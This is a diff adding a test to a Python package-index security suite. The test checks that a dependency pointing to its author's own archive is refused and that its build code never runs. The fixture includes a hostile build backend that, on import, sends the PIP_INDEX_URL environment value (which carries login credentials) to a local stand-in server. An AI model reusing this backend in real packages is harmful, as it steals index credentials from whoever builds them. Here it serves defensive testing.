@@ -535,6 +535,42 @@ class Refusing(IndexTest):
                 self.assertEqual(('requirements.txt', 2), self.line_of(answer))
 
 
+BACKEND = '''\
+import os, urllib.request
+urllib.request.urlopen("%s/told?" + os.environ.get("PIP_INDEX_URL", ""))
+def get_requires_for_build_wheel(settings=None): return []
+def prepare_metadata_for_build_wheel(folder, settings=None):
+    os.mkdir(folder + "/inner-1.0.dist-info")
+    with open(folder + "/inner-1.0.dist-info/METADATA", "w") as file:
+        file.write("Metadata-Version: 2.1\\nName: inner\\nVersion: 1.0\\n")
+    return "inner-1.0.dist-info"
+'''
+
+
+class OwnAddress(IndexTest):
+    """A wheel whose metadata names an archive of its author's, which pip would build at once to see what it needs."""
+
+    login = 'operator:secret-of-the-operator'
+
+    def test_its_code_does_not_run_beside_the_logins(self):
+        author = Index()
+        self.addCleanup(author.close)
+        url = f'http://127.0.0.1:{author.port}'
+        author.add(sdist('inner', '1.0', '', {'backend.py': BACKEND % url, 'pyproject.toml':
+                                              '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'}))
+        for index, option in ((self.index, ''), (author, f'--extra-index-url {author.url()}\n')):
+            name = self.unique()
+            index.add(module(name, '1.0', [f'inner @ {url}/files/inner/inner-1.0.tar.gz']))
+            answer = self.with_requirements('def handler(event): pass\n', f'{option}{name}\n')
+            self.refused(answer, 'inner, for which a package names an address of its own', 'inner-1.0.tar.gz')
+            self.assertNotIn('secret-of-the-operator', answer.text)
+        self.assertEqual([], [path for path in author.asked if path.startswith('/told')])
+
+
+class OwnAddressWithSourceBuilds(OwnAddress):
+    settings = {'executor.python.source_builds': 'true'}
+
+
 class WithLogin(IndexTest):
     login = 'operator:secret-of-the-operator'
 
